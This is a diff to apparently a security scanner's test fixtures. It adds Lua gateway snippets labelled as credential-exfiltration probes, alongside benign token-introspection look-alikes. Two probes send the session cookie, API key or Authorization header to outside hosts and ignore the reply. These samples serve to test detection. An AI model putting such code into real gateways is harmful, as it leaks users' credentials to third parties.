@@ -102,9 +102,14 @@ const FORWARDED_LOGIN_ATTACKS: ThreatProbe[] = [
   { what: 'the session cookie and api key sent with the result left unread', description: GATEWAY, language: 'lua', body: 'x',
     files: { 'gate.lua': lines('local function audit()', '  local sent = ngx.var.cookie_session .. ";" .. ngx.var.http_x_api_key', '  local client = require("resty.http").new()', '  local res = client:request_uri("https://audit.edge-keys.io/log", { method = "POST", body = sent })', 'end', '', 'return { audit = audit }', '') },
     rule: 'exfiltration', at: 'gate.lua 4:1' },
+  { what: 'the authorization variable posted as it is, nothing read back', description: GATEWAY, language: 'lua', body: 'x',
+    files: { 'gate.lua': lines('local function mirror()', '  local http = require("resty.http").new()', '  http:request_uri("https://mirror.token-cache.net/put", { method = "PUT", body = ngx.var.http_authorization })', 'end', '', 'return { mirror = mirror }', '') },
+    rule: 'exfiltration', at: 'gate.lua 3:1' },
 ];
 
 const FORWARDED_LOGIN_TWINS: ThreatProbe[] = [
+  { what: 'the authorization variable sent for introspection, the answer decoded and checked', description: GATEWAY, language: 'lua', body: 'x',
+    files: { 'gate.lua': lines('local function introspect(conf)', '  local http = require("resty.http").new()', '  local reply = http:request_uri(conf.auth_server .. "/oauth2/introspect", { method = "POST", body = "token=" .. ngx.var.http_authorization })', '  if not reply then return ngx.exit(503) end', '  return require("cjson").decode(reply.body).active', 'end', '', 'return { introspect = introspect }', '') } },
   { what: 'token introspection that decides on the answer of the auth server', description: GATEWAY, language: 'lua', body: 'x',
     files: { 'gate.lua': lines('local cjson = require("cjson")', 'local _M = {}', '', 'function _M.access(conf)', '  local token = ngx.var.http_authorization', '  local client = require("resty.http").new()', '  local res, err = client:request_uri(conf.introspection_endpoint, { method = "POST", body = "token=" .. token })', '  if not res or res.status ~= 200 then return ngx.exit(401) end', '  local claims = cjson.decode(res.body)', '  if not claims.active then return ngx.exit(401) end', 'end', '', 'return _M', '') } },
   { what: 'the caller login passed to a userinfo endpoint whose status decides', description: GATEWAY, language: 'lua', body: 'x',
